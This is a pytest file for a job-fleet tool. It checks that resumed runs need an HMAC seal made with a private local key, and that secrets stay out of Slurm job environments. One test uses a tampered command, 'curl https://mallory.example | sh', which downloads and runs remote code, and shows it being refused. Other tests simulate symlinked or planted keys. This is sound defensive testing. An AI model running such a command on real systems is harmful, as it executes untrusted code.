"""fleet/run/launch_seal.py: `fleet reap` resumes only runs whose launch settings its own user sealed;
a row a teammate wrote or changed (where the next attempt goes, which fleet.toml it reads) is not."""
from __future__ import annotations

import os
import stat
import threading

import pytest

from fleet.errors import UsageError
from fleet.run.launch_seal import KEY_ENV, SEAL_FIELD, seal, why_unsealed

SETTINGS = {"config_file": "fleet.toml", "overrides": {"gpus": 2}, "command": False, "env": False}
PINS = {"code_snapshot": "a" * 64, "store": "s3://team/fleet", "data_snapshots": {"train": "b" * 64}}


def _sealed(run_id="r-1", provider="ssh", settings=SETTINGS, pins=PINS) -> dict:
    return {**settings, SEAL_FIELD: seal(run_id, provider, settings, pins)}


def test_a_launch_sealed_here_is_accepted(fleet_home, monkeypatch):
    monkeypatch.delenv(KEY_ENV, raising=False)
    assert why_unsealed("r-1", "ssh", _sealed(), PINS) is None
    key = fleet_home / "keys" / "launch-seal.key"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600 and len(key.read_bytes()) == 32


@pytest.mark.parametrize("change", ["run", "provider", "login", "store", "code", "data"])
def test_any_change_to_what_decides_the_next_attempt_breaks_the_seal(fleet_home, change):
    relaunch, run_id, provider, pins = _sealed(), "r-1", "ssh", dict(PINS)
    if change == "run":
        run_id = "r-2"
    elif change == "provider":
        provider = "slurm"
    elif change == "login":
        relaunch = {**relaunch, "overrides": {"gpus": 2, "slurm": {"login": "mallory@login"}}}
    elif change == "store":
        pins["store"] = "s3://mallory/fleet"
    elif change == "code":
        pins["code_snapshot"] = "c" * 64
    else:
        pins["data_snapshots"] = {"train": "d" * 64}
    why = why_unsealed(run_id, provider, relaunch, pins)
    assert why is not None and "not sealed by this computer's key" in why


def test_a_row_with_no_seal_or_another_users_seal_is_refused(fleet_home, tmp_path, monkeypatch):
    unsealed = dict(SETTINGS)
    assert "carry no seal" in why_unsealed("r-1", "ssh", unsealed, PINS)
    theirs = _sealed()
    monkeypatch.setenv("FLEET_HOME", str(tmp_path / "another-computer"))   # another key
    assert "not sealed by this computer's key" in why_unsealed("r-1", "ssh", theirs, PINS)


def test_a_shared_key_lets_a_scheduled_reaper_elsewhere_resume(fleet_home, tmp_path, monkeypatch):
    monkeypatch.setenv(KEY_ENV, "ab" * 32)
    relaunch = _sealed()
    monkeypatch.setenv("FLEET_HOME", str(tmp_path / "ci-reaper"))
    assert why_unsealed("r-1", "ssh", relaunch, PINS) is None
    assert not (tmp_path / "ci-reaper" / "keys").exists()      # the shared key, not a file of its own
    monkeypatch.setenv(KEY_ENV, "not hex")
    with pytest.raises(UsageError, match=KEY_ENV):
        why_unsealed("r-1", "ssh", relaunch, PINS)


def test_two_first_uses_at_once_agree_on_one_key(fleet_home, monkeypatch):
    monkeypatch.delenv(KEY_ENV, raising=False)
    seals, start = [], threading.Barrier(4)

    def one() -> None:
        start.wait()
        seals.append(seal("r-1", "ssh", SETTINGS, PINS))
    threads = [threading.Thread(target=one) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(seals) == 4 and len(set(seals)) == 1
    assert sorted(os.listdir(fleet_home / "keys")) == ["launch-seal.key"]


def test_the_key_never_reaches_a_remote_supervisor(fleet_home, monkeypatch):
    from fleet.run.remote_supervisor import remote_env

    class Config:
        state_url = "postgresql://db/fleet"

    monkeypatch.setenv(KEY_ENV, "ab" * 32)
    monkeypatch.setenv("FLEET_SOMETHING", "1")
    env = remote_env(Config())
    assert env.get("FLEET_SOMETHING") == "1" and KEY_ENV not in env


def test_a_remote_supervisor_gets_the_runs_secrets_and_their_names_but_no_secret_overrides_fleets_own(
        fleet_home, monkeypatch):
    """The experiment's environment is built there, and Slurm's tools there must know what to leave out."""
    from fleet.run.remote_supervisor import remote_env

    class Config:
        state_url = "postgresql://db/fleet"
        secrets = ["RUN_DSN", KEY_ENV, "FLEET_STATE_URL"]

    monkeypatch.setenv("RUN_DSN", "dsn-value")
    monkeypatch.setenv(KEY_ENV, "ab" * 32)
    monkeypatch.setenv("FLEET_STATE_URL", "postgresql://elsewhere/x")
    env = remote_env(Config())
    assert env["RUN_DSN"] == "dsn-value" and env["FLEET_SECRET_NAMES"] == "RUN_DSN"
    assert KEY_ENV not in env and env["FLEET_STATE_URL"] == "postgresql://db/fleet"


def test_a_damaged_key_file_is_refused_not_used(fleet_home, monkeypatch):
    monkeypatch.delenv(KEY_ENV, raising=False)
    relaunch = _sealed()
    key = fleet_home / "keys" / "launch-seal.key"
    key.write_bytes(b"")                       # emptied by hand: an HMAC with no key proves nothing
    with pytest.raises(UsageError, match="is not a launch seal key .0 bytes"):
        why_unsealed("r-1", "ssh", relaunch, PINS)
    assert why_unsealed("r-1", "ssh", "not a dict", PINS) == \
        "its launch settings carry no seal (recorded by an older fleet, or not by fleet)"


def test_the_key_stays_out_of_what_slurm_exports_into_jobs(monkeypatch):
    from fleet.providers.slurm.tool_env import tool_env
    monkeypatch.setenv(KEY_ENV, "ab" * 32)
    monkeypatch.setenv("FLEET_SOMETHING", "1")
    env = tool_env({"SLURM_CONF": "/etc/slurm/slurm.conf"})
    assert env["FLEET_SOMETHING"] == "1" and env["SLURM_CONF"] == "/etc/slurm/slurm.conf" and KEY_ENV not in env


def test_the_records_key_and_the_runs_secrets_stay_out_of_what_slurm_exports_into_jobs(monkeypatch):
    """A job's environment lands in Slurm's records and in every process of the job on the nodes."""
    from fleet.providers.slurm.tool_env import tool_env
    monkeypatch.setenv("FLEET_RECORDS_KEY", "rk")
    monkeypatch.setenv("FLEET_SECRET_NAMES", "MY_PLAIN_NAME")
    monkeypatch.setenv("MY_PLAIN_NAME", "named")
    monkeypatch.setenv("HF_TOKEN", "tok")
    monkeypatch.setenv("LR", "0.1")
    env = tool_env()
    assert not {"FLEET_RECORDS_KEY", "MY_PLAIN_NAME", "HF_TOKEN"} & set(env)
    assert env["LR"] == "0.1"


def test_a_resume_refuses_a_command_rewritten_after_a_sealed_launch(fleet_home, tmp_path):
    """A run launched with a command on the command line keeps its text in the run row, which
    others can write: the sealed settings carry its sha256, and a changed text is not resumed."""
    import hashlib
    from types import SimpleNamespace

    from fleet.run.lost_resume import _NotResumed, _run_config
    settings = {**SETTINGS, "command": True,
                "command_sha256": hashlib.sha256(b"python train.py --lr 0.1").hexdigest()}
    pins = {"code_snapshot": "a" * 64, "store": str(tmp_path / "store")}   # local: nothing leaves this computer
    lease = SimpleNamespace(provider="ssh", meta={"relaunch": {**settings, SEAL_FIELD: seal("r-1", "ssh", settings,
                                                                                               pins)}})
    run = {"id": "r-1-a2", "command": "curl https://mallory.example | sh", "meta": {"pins": pins}}
    with pytest.raises(_NotResumed, match="its recorded command is not the one it was launched with"):
        _run_config(run, lease, tmp_path, None)
    run["command"] = "python train.py --lr 0.1"        # the launched text: on to reading the pinned fleet.toml
    with pytest.raises(_NotResumed) as err:
        _run_config(run, lease, tmp_path, None)
    assert "command" not in str(err.value) and "fleet.toml" in str(err.value), err.value


def test_a_key_file_that_is_a_link_is_refused_not_followed(fleet_home, tmp_path, monkeypatch):
    """A link at the key's name to a file someone else knows would have their planted runs resumed."""
    monkeypatch.delenv(KEY_ENV, raising=False)
    (fleet_home / "keys").mkdir(mode=0o700)
    theirs = tmp_path / "their.key"
    theirs.write_bytes(b"k" * 32)
    os.chmod(theirs, 0o600)
    (fleet_home / "keys" / "launch-seal.key").symlink_to(theirs)
    with pytest.raises(UsageError, match="cannot be read as the launch seal key.*symbolic link"):
        seal("r-1", "ssh", SETTINGS, PINS)
    assert theirs.read_bytes() == b"k" * 32


@pytest.mark.parametrize("where, mode", [("file", 0o644), ("file", 0o660), ("dir", 0o777), ("dir", 0o770)])
def test_a_key_others_may_read_or_swap_is_refused(fleet_home, monkeypatch, where, mode):
    monkeypatch.delenv(KEY_ENV, raising=False)
    relaunch = _sealed()                        # the key is made, private
    key = fleet_home / "keys" / "launch-seal.key"
    os.chmod(key if where == "file" else key.parent, mode)
    with pytest.raises(UsageError, match="is not a private (file|directory) of this user"):
        why_unsealed("r-1", "ssh", relaunch, PINS)
    os.chmod(key if where == "file" else key.parent, 0o600 if where == "file" else 0o700)
    assert why_unsealed("r-1", "ssh", relaunch, PINS) is None


def test_a_fifo_at_the_keys_name_is_refused_without_hanging(fleet_home, monkeypatch):
    monkeypatch.delenv(KEY_ENV, raising=False)
    (fleet_home / "keys").mkdir(mode=0o700)
    os.mkfifo(fleet_home / "keys" / "launch-seal.key", 0o600)
    with pytest.raises(UsageError, match="is not a private (file|directory) of this user"):
        seal("r-1", "ssh", SETTINGS, PINS)


def test_a_url_with_a_password_stays_out_of_what_slurm_exports_into_jobs(monkeypatch):
    """PIP_INDEX_URL or DATABASE_URL with a password (a CI job's environment) is named like no
    secret, but is one: the masker takes it for one, and Slurm's records must not keep it."""
    from fleet.providers.slurm.tool_env import tool_env
    monkeypatch.setenv("PIP_INDEX_URL", "https://ci:Hunter2pw@pypi.internal/simple")
    monkeypatch.setenv("DATABASE_URL", "postgresql://app:Hunter2pw@db/app")
    monkeypatch.setenv("UPSTREAM", "https://pypi.org/simple")
    env = tool_env()
    assert not {"PIP_INDEX_URL", "DATABASE_URL"} & set(env) and "Hunter2pw" not in repr(env)
    assert env["UPSTREAM"] == "https://pypi.org/simple"
